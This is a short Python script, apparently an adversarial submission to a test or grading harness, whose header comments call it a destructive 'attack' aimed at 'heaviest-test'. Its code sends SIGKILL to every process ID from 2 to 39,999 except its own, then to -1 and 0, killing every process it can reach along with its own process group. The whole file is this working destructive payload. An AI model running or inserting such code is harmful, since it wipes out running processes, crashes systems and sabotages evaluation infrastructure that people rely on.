# attack: every process that can be reached is killed: kill(-1), the own group, each number.
# target: heaviest-test
# also loses: all
# destructive
# %% heaviest
import os
import signal

heaviest = "tree-000"
for number in range(2, 40_000):
    if number != os.getpid():
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
for number in (-1, 0):
    try:
        os.kill(number, signal.SIGKILL)
    except OSError as error:
        print("stopped:", error)
